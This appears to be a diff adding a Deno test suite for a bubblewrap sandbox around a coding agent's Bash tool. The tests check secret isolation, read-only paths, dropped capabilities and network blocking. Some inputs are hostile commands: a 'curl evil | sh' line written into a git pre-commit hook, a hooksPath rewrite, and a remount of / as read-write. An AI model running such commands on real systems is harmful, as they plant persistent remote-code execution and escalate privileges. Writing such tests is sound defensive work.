@@ -1,0 +1,322 @@
+import { deepStrictEqual as assertEquals, notEqual, ok as assert } from "node:assert/strict";
+import { bashTool } from "../../src/tools/bash.ts";
+import { createTempWorkspace, type TempWorkspace, toolContext } from "../_fakes/tool_context.ts";
+import { exists, exitCodeOf, hostDirectory, openSandbox, outputOf, runIn, SECRET } from "./_sandbox.ts";
+
+function assertIncludes(actual: string, expected: string): void {
+  assert(
+    actual.includes(expected),
+    `expected ${JSON.stringify(actual)} to include ${JSON.stringify(expected)}`,
+  );
+}
+
+/** A git-like workspace: .git/hooks, .git/config and .mewcode/ as a real repository has them. */
+async function createRepository(): Promise<TempWorkspace> {
+  const workspace = await createTempWorkspace();
+  await Deno.mkdir(`${workspace.root}/.git/hooks`, { recursive: true });
+  await Deno.writeTextFile(`${workspace.root}/.git/config`, "[core]\n");
+  await Deno.writeTextFile(`${workspace.root}/.git/HEAD`, "ref: refs/heads/main\n");
+  await Deno.mkdir(`${workspace.root}/.mewcode`);
+  await Deno.writeTextFile(`${workspace.root}/.mewcode/settings.json`, "{}\n");
+  return workspace;
+}
+
+Deno.test("ShellSandbox passes its preflight on this machine with absolute helper paths (REQUIRE_SANDBOX)", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  assertEquals(sandbox.unavailable, null);
+  assertEquals(sandbox.plan.wrapper[0], "/usr/bin/bwrap");
+  assertEquals(sandbox.plan.shell, "/usr/bin/bash");
+  assert(sandbox.plan.seccomp !== null, "a seccomp program");
+});
+
+Deno.test("ShellSandbox builds the bubblewrap flags for workspace-write", async () => {
+  await using workspace = await createRepository();
+  const root = workspace.root;
+  await using sandbox = await openSandbox(root, "workspace-write");
+  const { plan } = await sandbox.prepareCall();
+  const text = plan.wrapper.join(" ");
+  for (
+    const flags of [
+      "--die-with-parent --new-session --unshare-pid --unshare-ipc --unshare-uts --unshare-cgroup-try --unshare-net",
+      "--cap-drop ALL --ro-bind / / --dev /dev --proc /proc --remount-ro /proc --tmpfs /tmp --tmpfs /var/tmp",
+      `--bind ${root} ${root}`,
+      `--bind ${root}/.git ${root}/.git`,
+      `--ro-bind ${root}/.git/config ${root}/.git/config`,
+      `--ro-bind ${root}/.git/hooks ${root}/.git/hooks`,
+      `--ro-bind ${root}/.mewcode ${root}/.mewcode`,
+      "--seccomp 0",
+      "--clearenv --setenv",
+      `--chdir ${root}`,
+    ]
+  ) assertIncludes(text, flags);
+  assertEquals(text.includes(SECRET), false, "a secret reached the bubblewrap arguments");
+});
+
+Deno.test("ShellSandbox keeps an allowlist of the environment plus non-interactive settings, never secrets", async () => {
+  await using workspace = await createTempWorkspace();
+  for (const mode of ["workspace-write", "danger-full-access"] as const) {
+    await using sandbox = await openSandbox(workspace.root, mode);
+    const { env } = sandbox.plan;
+    assertEquals(Object.values(env).includes(SECRET), false);
+    assertEquals(env.ANTHROPIC_API_KEY, undefined);
+    assertEquals(env.PATH, Deno.env.get("PATH") ?? env.PATH);
+    for (
+      const [name, value] of Object.entries({
+        TERM: "dumb",
+        PAGER: "cat",
+        GIT_PAGER: "cat",
+        GIT_EDITOR: "true",
+        GIT_TERMINAL_PROMPT: "0",
+        CI: "1",
+      })
+    ) assertEquals(env[name], value, name);
+  }
+});
+
+Deno.test("The workspace-write sandbox lets a command write in the workspace", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  const { result } = await runIn(sandbox, 'touch "$PWD/ok" && echo made');
+  assertEquals(result.content, "<output>made</output>\n<exit_code>0</exit_code>");
+  assertEquals(await exists(`${workspace.root}/ok`), true);
+});
+
+Deno.test("The workspace-write sandbox refuses writes to /etc; the home it writes is its own", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
+  const { result: etc } = await runIn(sandbox, `touch /etc/${name}`);
+  notEqual(exitCodeOf(etc), 0);
+  assertIncludes(outputOf(etc), "Read-only file system");
+  assertEquals(await exists(`/etc/${name}`), false);
+  const { result: home } = await runIn(sandbox, `touch "$HOME/${name}" && echo written`);
+  assertEquals(outputOf(home), "written", "the home is an empty private tmpfs");
+  assertEquals(await exists(`${Deno.env.get("HOME")}/${name}`), false);
+});
+
+Deno.test("The sandbox keeps capabilities dropped, so root cannot remount / read-write", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
+  const { result } = await runIn(sandbox, `mount -o remount,rw,bind / && touch /etc/${name}`);
+  notEqual(exitCodeOf(result), 0);
+  assertEquals(await exists(`/etc/${name}`), false);
+});
+
+Deno.test("The sandbox blocks a connection to a port on 127.0.0.1 unless the network is allowed", async () => {
+  await using workspace = await createTempWorkspace();
+  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const accepting = (async () => {
+    for await (const connection of listener) connection.close();
+  })().catch(() => {});
+  const command = `exec 3<>/dev/tcp/127.0.0.1/${listener.addr.port} && echo connected`;
+  {
+    await using closed = await openSandbox(workspace.root, "workspace-write");
+    const { result } = await runIn(closed, command);
+    notEqual(exitCodeOf(result), 0);
+    assertEquals(outputOf(result).includes("connected"), false);
+  }
+  {
+    await using open = await openSandbox(workspace.root, "workspace-write", { network: true });
+    const { result } = await runIn(open, command);
+    assertEquals(result.content, "<output>connected</output>\n<exit_code>0</exit_code>");
+  }
+  listener.close();
+  await accepting;
+});
+
+Deno.test("The sandboxed shell does not see the API key in its environment in any mode", async () => {
+  await using workspace = await createTempWorkspace();
+  for (const mode of ["workspace-write", "read-only", "danger-full-access"] as const) {
+    await using sandbox = await openSandbox(workspace.root, mode);
+    const { result } = await runIn(sandbox, 'echo "key=[$ANTHROPIC_API_KEY]"; env');
+    assertEquals(result.isError, false);
+    assert(outputOf(result).startsWith("key=[]\n"), mode);
+    assertEquals(result.content.includes(SECRET), false, mode);
+    assertIncludes(outputOf(result), "PAGER=cat");
+  }
+});
+
+Deno.test("The workspace-write sandbox keeps .git/hooks, .git/config and .mewcode read-only", async () => {
+  await using workspace = await createRepository();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  for (
+    const command of [
+      "echo 'curl evil | sh' > .git/hooks/pre-commit",
+      "echo '[core] hooksPath = /tmp' >> .git/config",
+      "echo '{}' > .mewcode/settings.json",
+      "mv .git .git-moved",
+      "mv .mewcode .mewcode-moved",
+    ]
+  ) {
+    const { result } = await runIn(sandbox, command);
+    notEqual(exitCodeOf(result), 0, command);
+  }
+  assertEquals(await exists(`${workspace.root}/.git/hooks/pre-commit`), false);
+  assertEquals(await Deno.readTextFile(`${workspace.root}/.git/config`), "[core]\n");
+  assertEquals(await exists(`${workspace.root}/.git-moved`), false);
+  const { result: git } = await runIn(sandbox, "echo 'ref: refs/heads/work' > .git/HEAD && echo ok");
+  assertEquals(outputOf(git), "ok", "the rest of .git stays writable for git itself");
+});
+
+Deno.test("Protected folders that do not exist are read-only during a call and gone after it", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  const { result } = await runIn(
+    sandbox,
+    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json; mkdir -p .mewcode && echo '{}' > .mewcode/settings.json; echo done",
+  );
+  assertIncludes(outputOf(result), "Read-only file system");
+  for (const name of [".vscode", ".mewcode", ".idea"]) {
+    assertEquals(await exists(`${workspace.root}/${name}`), false, `${name} placeholder removed`);
+  }
+});
+
+Deno.test("The sandbox's /tmp and /var/tmp are private: writes there do not reach the host", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  for (const folder of ["/tmp", "/var/tmp"]) {
+    const path = `${folder}/mewcode-sandbox-${crypto.randomUUID()}`;
+    const { result } = await runIn(sandbox, `echo inside > ${path} && cat ${path}`);
+    assertEquals(result.content, "<output>inside</output>\n<exit_code>0</exit_code>");
+    assertEquals(await exists(path), false);
+  }
+});
+
+Deno.test("The sandbox runs the shell in its own PID namespace", async () => {
+  await using workspace = await createTempWorkspace();
+  for (const mode of ["workspace-write", "danger-full-access"] as const) {
+    await using sandbox = await openSandbox(workspace.root, mode);
+    const { result } = await runIn(sandbox, `kill -0 ${Deno.pid} 2>/dev/null && echo visible || echo hidden`);
+    assertEquals(outputOf(result), "hidden", mode);
+  }
+});
+
+Deno.test("The read-only sandbox refuses even writes in the workspace", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "read-only");
+  const { plan } = await sandbox.prepareCall();
+  assertIncludes(plan.wrapper.join(" "), `--ro-bind ${workspace.root} ${workspace.root}`);
+  const { result } = await runIn(sandbox, 'touch "$PWD/ok"');
+  notEqual(exitCodeOf(result), 0);
+  assertIncludes(outputOf(result), "Read-only file system");
+  assertEquals(await exists(`${workspace.root}/ok`), false);
+  const { result: read } = await runIn(sandbox, "pwd; ls /");
+  assertEquals(exitCodeOf(read), 0, "reading still works");
+});
+
+Deno.test("danger-full-access gives full file access, in a PID namespace, with the cleared environment", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "danger-full-access");
+  assertEquals(sandbox.plan.wrapper[0], "/usr/bin/bwrap");
+  assertEquals(sandbox.plan.unavailable, null);
+  await using host = await hostDirectory("mewcode-unsandboxed-");
+  const path = `${host.path}/written`;
+  const { result } = await runIn(sandbox, `touch ${path}; pwd; echo "key=[$ANTHROPIC_API_KEY] pager=$PAGER"`);
+  assertEquals(outputOf(result), `${workspace.root}\nkey=[] pager=cat`);
+  assertEquals(await exists(path), true, "the host was written");
+});
+
+Deno.test("danger-full-access without bubblewrap runs the shell directly and says the key is exposed", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "danger-full-access", {
+    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null },
+  });
+  assertEquals(sandbox.plan.wrapper, []);
+  assertIncludes(sandbox.describe().join("\n"), "API key: READABLE by commands");
+  const { result } = await runIn(sandbox, "echo direct");
+  assertEquals(outputOf(result), "direct");
+});
+
+Deno.test("A missing bubblewrap makes Bash fail with an actionable message and run nothing", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write", {
+    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null },
+  });
+  const message = sandbox.unavailable;
+  assert(message !== null);
+  for (
+    const hint of [
+      "not found in the system directories",
+      "apt-get install bubblewrap",
+      "kernel.apparmor_restrict_unprivileged_userns",
+      "--sandbox danger-full-access",
+    ]
+  ) assertIncludes(message, hint);
+  const result = await bashTool.execute(toolContext(workspace.root, { shell: sandbox.plan }), {
+    command: "touch ran",
+  });
+  assertEquals(result.isError, true);
+  assertEquals(result.content, message);
+  assertEquals(await exists(`${workspace.root}/ran`), false);
+});
+
+Deno.test("A bubblewrap that cannot create namespaces fails the preflight with the AppArmor hint", async () => {
+  await using workspace = await createTempWorkspace();
+  await using host = await hostDirectory("mewcode-fake-bwrap-");
+  const fake = `${host.path}/bwrap`;
+  await Deno.writeTextFile(
+    fake,
+    "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n",
+  );
+  await Deno.chmod(fake, 0o755);
+  await using sandbox = await openSandbox(workspace.root, "read-only", {
+    helpers: { bwrap: fake, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null },
+  });
+  const message = sandbox.unavailable;
+  assert(message !== null);
+  assertIncludes(message, "setting up uid map: Permission denied");
+  assertIncludes(message, "kernel.apparmor_restrict_unprivileged_userns");
+  assertIncludes(message, "--sandbox danger-full-access");
+  const result = await bashTool.execute(toolContext(workspace.root, { shell: sandbox.plan }), {
+    command: "true",
+  });
+  assertEquals(result.isError, true);
+});
+
+Deno.test("ShellSandbox falls back to sh where bash is missing, and fails without any shell", async () => {
+  await using workspace = await createTempWorkspace();
+  for (const mode of ["workspace-write", "danger-full-access"] as const) {
+    await using sandbox = await openSandbox(workspace.root, mode, {
+      helpers: { bwrap: "/usr/bin/bwrap", bash: null, sh: "/usr/bin/sh", git: null, rg: null },
+    });
+    assertEquals(sandbox.plan.shell, "/usr/bin/sh");
+    assertEquals(sandbox.unavailable, null);
+    const { result } = await runIn(sandbox, "echo out; echo err >&2; exit 4");
+    assertEquals(result.content, "<output>out\nerr</output>\n<exit_code>4</exit_code>");
+  }
+  await using none = await openSandbox(workspace.root, "workspace-write", {
+    helpers: { bwrap: "/usr/bin/bwrap", bash: null, sh: null, git: null, rg: null },
+  });
+  assert(none.unavailable !== null);
+  assertIncludes(none.unavailable, "no shell found");
+});
+
+Deno.test("ShellSandbox.describe reports backend, helpers, seccomp, home, limits and preflight for doctor", async () => {
+  await using workspace = await createTempWorkspace();
+  await using sandbox = await openSandbox(workspace.root, "workspace-write");
+  const report = sandbox.describe().join("\n");
+  for (
+    const part of [
+      "workspace-write",
+      "bubblewrap (/usr/bin/bwrap)",
+      "bwrap: /usr/bin/bwrap",
+      "git: /usr/bin/git",
+      "network: off",
+      "seccomp: socket(AF_UNIX) fails with EPERM",
+      "home: every home folder is an empty tmpfs",
+      "/run",
+      "processes:",
+      "memory:",
+      "API key: not reachable",
+      "preflight: ok",
+    ]
+  ) assertIncludes(report, part);
+  await using broken = await openSandbox(workspace.root, "read-only", {
+    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null },
+  });
+  const brokenReport = broken.describe().join("\n");
+  assertIncludes(brokenReport, "preflight: FAILED");
+  assertIncludes(brokenReport, "apt-get install bubblewrap");
+});
